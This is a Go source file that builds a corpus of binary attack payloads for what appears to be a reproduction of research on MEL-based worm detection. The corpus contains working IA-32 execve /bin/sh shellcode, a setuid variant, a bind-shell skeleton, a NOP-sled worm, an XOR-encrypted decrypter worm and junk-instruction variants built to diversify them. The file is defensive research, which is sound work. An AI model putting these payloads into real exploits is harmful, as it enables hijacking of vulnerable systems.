@@ -1,0 +1,279 @@
+// Package shellcode builds the binary attack-payload corpus the
+// experiments need: classic Linux IA-32 execve shellcode in several
+// variants (substituting for the Aleph One exploit payloads of Section
+// 5.1), plus the two binary-worm shapes of Section 4.1 — the sled worm
+// that MEL detectors were designed for and the register-spring worm that
+// obsoleted them. Every payload is executable by internal/emu.
+package shellcode
+
+import (
+	"fmt"
+
+	"repro/internal/stats"
+)
+
+// Shellcode is one binary payload with its expected behaviour.
+type Shellcode struct {
+	// Name is a short identifier (unique within the corpus).
+	Name string
+	// Description says what the payload does.
+	Description string
+	// Code is the raw machine code.
+	Code []byte
+	// SpawnsShell is true when correct execution ends in execve("/bin/sh").
+	SpawnsShell bool
+}
+
+// Execve returns the classic 24-byte /bin/sh execve shellcode
+// (xor eax,eax; push eax; push "//sh"; push "/bin"; mov ebx,esp;
+// push eax; push ebx; mov ecx,esp; cdq; mov al,11; int 0x80).
+func Execve() Shellcode {
+	return Shellcode{
+		Name:        "execve",
+		Description: "classic /bin//sh execve",
+		SpawnsShell: true,
+		Code: []byte{
+			0x31, 0xC0, // xor eax,eax
+			0x50,                     // push eax
+			0x68, '/', '/', 's', 'h', // push "//sh"
+			0x68, '/', 'b', 'i', 'n', // push "/bin"
+			0x89, 0xE3, // mov ebx,esp
+			0x50,       // push eax
+			0x53,       // push ebx
+			0x89, 0xE1, // mov ecx,esp
+			0x99,       // cdq
+			0xB0, 0x0B, // mov al,11
+			0xCD, 0x80, // int 0x80
+		},
+	}
+}
+
+// SetuidExecve returns a setuid(0)-then-execve payload, a common
+// privilege-restoring variant.
+func SetuidExecve() Shellcode {
+	body := Execve().Code
+	code := []byte{
+		0x31, 0xDB, // xor ebx,ebx
+		0x31, 0xC0, // xor eax,eax
+		0xB0, 0x17, // mov al,23 (setuid)
+		0xCD, 0x80, // int 0x80
+	}
+	return Shellcode{
+		Name:        "setuid-execve",
+		Description: "setuid(0) then execve /bin//sh",
+		SpawnsShell: true,
+		Code:        append(code, body...),
+	}
+}
+
+// Exit returns a minimal exit(0) payload (a benign-behaving injection,
+// useful as a negative control for the emulator).
+func Exit() Shellcode {
+	return Shellcode{
+		Name:        "exit",
+		Description: "exit(0)",
+		Code: []byte{
+			0x31, 0xDB, // xor ebx,ebx
+			0x31, 0xC0, // xor eax,eax
+			0x40,       // inc eax (eax=1, sys_exit)
+			0xCD, 0x80, // int 0x80
+		},
+	}
+}
+
+// BindShell returns a socket-setup skeleton followed by an execve: the
+// socketcall invocations are emulated as succeeding, after which the
+// shell is spawned — structurally a port-binding backdoor.
+func BindShell() Shellcode {
+	code := []byte{
+		// socketcall(SYS_SOCKET, args) — args built crudely on the stack.
+		0x31, 0xC0, // xor eax,eax
+		0x50,       // push eax (protocol 0)
+		0x6A, 0x01, // push 1 (SOCK_STREAM)
+		0x6A, 0x02, // push 2 (AF_INET)
+		0x89, 0xE1, // mov ecx,esp
+		0x31, 0xDB, // xor ebx,ebx
+		0x43,       // inc ebx (SYS_SOCKET=1)
+		0xB0, 0x66, // mov al,102 (socketcall)
+		0xCD, 0x80, // int 0x80
+		// dup2 loop stand-in: three dup2 calls.
+		0x31, 0xC9, // xor ecx,ecx
+		0xB0, 0x3F, // mov al,63 (dup2)
+		0xCD, 0x80,
+		0xB0, 0x3F,
+		0x41, // inc ecx
+		0xCD, 0x80,
+		0xB0, 0x3F,
+		0x41,
+		0xCD, 0x80,
+	}
+	return Shellcode{
+		Name:        "bind-shell",
+		Description: "socket + dup2 skeleton, then execve /bin//sh",
+		SpawnsShell: true,
+		Code:        append(code, Execve().Code...),
+	}
+}
+
+// WriteThenExit returns a payload that writes a marker to stdout and
+// exits — the "benign-looking" injected code case.
+func WriteThenExit() Shellcode {
+	return Shellcode{
+		Name:        "write-exit",
+		Description: "write(1, msg) then exit",
+		Code: []byte{
+			0x31, 0xC0, // xor eax,eax
+			0x50,                     // push eax
+			0x68, 'P', 'W', 'N', '!', // push "PWN!"
+			0x89, 0xE1, // mov ecx,esp
+			0x31, 0xDB, // xor ebx,ebx
+			0x43,       // inc ebx (fd 1)
+			0x31, 0xD2, // xor edx,edx
+			0xB2, 0x04, // mov dl,4
+			0xB0, 0x04, // mov al,4 (write)
+			0xCD, 0x80,
+			0x31, 0xC0, // xor eax,eax
+			0x40,       // inc eax
+			0xCD, 0x80, // exit
+		},
+	}
+}
+
+// junkOps are harmless single instructions used to diversify variants the
+// way re-assembled exploits differ: register moves, flag ops, nops.
+var junkOps = [][]byte{
+	{0x90},             // nop
+	{0x89, 0xC0},       // mov eax,eax
+	{0x89, 0xDB},       // mov ebx,ebx
+	{0x87, 0xC9},       // xchg ecx,ecx
+	{0xF8},             // clc
+	{0xF9},             // stc
+	{0xFC},             // cld
+	{0x40, 0x48},       // inc eax; dec eax
+	{0x43, 0x4B},       // inc ebx; dec ebx
+	{0x51, 0x59},       // push ecx; pop ecx
+	{0x50, 0x58},       // push eax; pop eax
+	{0x31, 0xD2},       // xor edx,edx
+	{0x29, 0xD2},       // sub edx,edx
+	{0x21, 0xC0},       // and eax,eax
+	{0x09, 0xC0},       // or eax,eax
+	{0x83, 0xC1, 0x00}, // add ecx,0
+}
+
+// Variants returns n distinct shell-spawning payloads derived from the
+// base execve shellcode by interleaving junk instructions — the
+// stand-in for the "multiple binary buffer overflow programs" the paper
+// converted to text (Section 5.1). Deterministic in seed.
+func Variants(seed uint64, n int) []Shellcode {
+	rng := stats.NewRNG(seed)
+	out := make([]Shellcode, 0, n)
+	base := [][]byte{Execve().Code, SetuidExecve().Code, BindShell().Code}
+	for i := 0; i < n; i++ {
+		body := base[i%len(base)]
+		var code []byte
+		// A random junk prologue (0-4 ops) that must not disturb the
+		// payload: junk ops only touch registers the prologue of every
+		// base payload overwrites (eax/ebx/ecx/edx are all re-zeroed).
+		for j, k := 0, rng.Intn(5); j < k; j++ {
+			code = append(code, junkOps[rng.Intn(len(junkOps))]...)
+		}
+		code = append(code, body...)
+		out = append(out, Shellcode{
+			Name:        fmt.Sprintf("variant-%03d", i),
+			Description: "diversified execve payload",
+			SpawnsShell: true,
+			Code:        code,
+		})
+	}
+	return out
+}
+
+// Corpus returns the full named corpus (excluding Variants).
+func Corpus() []Shellcode {
+	return []Shellcode{Execve(), SetuidExecve(), Exit(), BindShell(), WriteThenExit()}
+}
+
+// SledWorm returns a Section 4.1 "old-style" binary worm: a long NOP
+// sled followed by the execve payload. Its sled gives it a very large
+// MEL, which is what APE and STRIDE detected.
+func SledWorm(sledLen int) Shellcode {
+	if sledLen < 0 {
+		sledLen = 0
+	}
+	code := make([]byte, 0, sledLen+32)
+	for i := 0; i < sledLen; i++ {
+		code = append(code, 0x90)
+	}
+	code = append(code, Execve().Code...)
+	return Shellcode{
+		Name:        fmt.Sprintf("sled-worm-%d", sledLen),
+		Description: "NOP sled + execve (pre-2005 worm shape)",
+		SpawnsShell: true,
+		Code:        code,
+	}
+}
+
+// RegisterSpringWorm returns a Section 4.1 "modern" binary worm: no
+// sled, a tiny XOR decrypter that uses a static address (the register-
+// spring technique exposes static addresses), and an encrypted payload.
+// Its MEL is tiny — the reason MEL-based binary worm detection is dead.
+//
+// payloadAddr must be the absolute address where the worm's first byte
+// will live at runtime; the decrypter hard-codes the encrypted region's
+// address from it.
+func RegisterSpringWorm(payloadAddr uint32, key byte) Shellcode {
+	if key == 0 {
+		key = 0x7F
+	}
+	payload := Execve().Code
+	enc := make([]byte, len(payload))
+	for i, b := range payload {
+		enc[i] = b ^ key
+	}
+	// Decrypter: mov esi, addr; mov ecx, len; l: xor byte [esi], key;
+	// inc esi; loop l; <encrypted payload>.
+	const decrypterLen = 5 + 5 + 3 + 1 + 2
+	encAddr := payloadAddr + decrypterLen
+	code := []byte{
+		0xBE, byte(encAddr), byte(encAddr >> 8), byte(encAddr >> 16), byte(encAddr >> 24), // mov esi, encAddr
+		0xB9, byte(len(enc)), byte(len(enc) >> 8), 0x00, 0x00, // mov ecx, len
+		0x80, 0x36, key, // xor byte [esi], key
+		0x46,       // inc esi
+		0xE2, 0xFA, // loop -6
+	}
+	code = append(code, enc...)
+	return Shellcode{
+		Name:        "register-spring-worm",
+		Description: "tiny XOR decrypter + encrypted execve, no sled",
+		SpawnsShell: true,
+		Code:        code,
+	}
+}
+
+// MaxTextRun returns the length in bytes of the longest run of text bytes
+// in code — a quick structural metric used to show binary payloads are
+// not text.
+func MaxTextRun(code []byte) int {
+	best, cur := 0, 0
+	for _, b := range code {
+		if b >= 0x20 && b <= 0x7E {
+			cur++
+			if cur > best {
+				best = cur
+			}
+		} else {
+			cur = 0
+		}
+	}
+	return best
+}
+
+// IsText reports whether the whole payload is keyboard-enterable.
+func IsText(code []byte) bool {
+	for _, b := range code {
+		if b < 0x20 || b > 0x7E {
+			return false
+		}
+	}
+	return true
+}
